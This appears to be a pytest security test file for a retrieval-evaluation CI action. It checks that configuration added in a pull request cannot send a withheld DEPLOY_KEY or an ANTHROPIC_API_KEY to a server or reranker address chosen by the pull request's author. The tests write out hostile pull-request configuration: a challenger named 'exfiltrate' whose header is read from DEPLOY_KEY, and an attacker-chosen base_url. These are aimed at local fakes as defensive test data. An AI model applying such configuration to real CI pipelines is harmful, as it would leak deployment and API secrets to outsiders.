"""A pull request's challengers cannot reach what its gated retriever cannot, nor move the gate.

Threat: challengers are read from the pull request (they are only reported), so a pull
request can add one. It adds an `http` challenger at its own server with a header read from
DEPLOY_KEY, which the base commit's `secret_env` withholds, and a `hybrid` challenger whose
Claude reranker sends ANTHROPIC_API_KEY to an address of its choosing. A challenger's
`headers_env` and `base_url` are resource bounds of its retriever tables, the base commit's
`[retrievers]`: the base names no header, so none is sent (the pull request's is a proposal),
and the reranker talks to the base commit's `retrievers.hybrid.claude.base_url`, never the
pull request's.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from retrieval_eval.index.model_install import default_model_dir
from tests.action.project import CONFIG, NOTES
from tests.render.github_html import read
from tests.security.harness import Repo
from tests.support.fake_anthropic import FakeAnthropic
from tests.support.services import SearchService, search_service

pytestmark = pytest.mark.slow

DEPLOY_KEY = "deploy-key-0123456789-SECRET"
API_KEY = "sk-ant-real-key-SECRET"


def test_a_challenger_cannot_send_a_withheld_secret_to_the_pr_s_server(repo: Repo) -> None:
    theirs = SearchService(dict(NOTES))
    with search_service(theirs) as their_url:
        main = repo.commit(
            {"retrieval-eval.toml": 'secret_env = ["DEPLOY_*"]\n' + CONFIG}, "withhold DEPLOY_*"
        )
        repo.establish_baseline()
        main = repo.head()
        repo.branch("feature", main)
        head = repo.commit(
            {
                "retrieval-eval.toml": CONFIG
                + '\n[challengers.exfiltrate]\nretriever = "http"\n\n'
                + f"[challengers.exfiltrate.http]\nurl = {json.dumps(their_url)}\n"
                + 'headers_env = { X-Deploy = "DEPLOY_KEY" }\n'
            },
            "a challenger at my own server",
        )
        run = repo.pull_request(42, main, head, extra_env={"DEPLOY_KEY": DEPLOY_KEY})

    sent = [value for headers in theirs.headers for value in headers.values()]
    assert DEPLOY_KEY not in sent
    assert run.returncode == 0, run.log  # a challenger never fails the run
    assert run.outputs["verdict"] == "passed"
    assert theirs.headers and not any("X-Deploy" in h for h in theirs.headers)
    page = read(run.comment).text
    assert "challengers.exfiltrate.retrievers.http.headers_env" in page
    assert "takes effect after merge" in page
    assert DEPLOY_KEY not in run.comment and DEPLOY_KEY not in run.log.replace(
        f"::add-mask::{DEPLOY_KEY}", ""
    )


def test_a_challenger_s_reranker_sends_the_key_only_where_the_base_commit_says(
    repo: Repo,
) -> None:
    with FakeAnthropic(api_key=API_KEY) as ours, FakeAnthropic(api_key=API_KEY) as theirs:
        main = repo.commit(
            {
                "retrieval-eval.toml": CONFIG
                + f"\n[retrievers.hybrid.claude]\nbase_url = {json.dumps(ours.base_url)}\n"
            },
            "our Anthropic gateway",
        )
        repo.branch("feature", main)
        head = repo.commit(
            {
                "retrieval-eval.toml": CONFIG
                + '\n[challengers.reranked]\nretriever = "hybrid"\n\n'
                + '[challengers.reranked.hybrid]\nreranker = "claude"\n\n'
                + "[challengers.reranked.hybrid.claude]\n"
                + f"base_url = {json.dumps(theirs.base_url)}\n"
            },
            "a reranked challenger, at my own address",
        )
        model = {"RETRIEVAL_EVAL_MODEL_DIR": str(default_model_dir(Path.home()))}
        run = repo.pull_request(43, main, head, extra_env={"ANTHROPIC_API_KEY": API_KEY, **model})

    assert theirs.requests == []
    assert ours.requests, run.log  # the challenger ran, through the base commit's gateway
    assert run.returncode == 0, run.log
    assert "| reranked | hybrid |" in run.comment
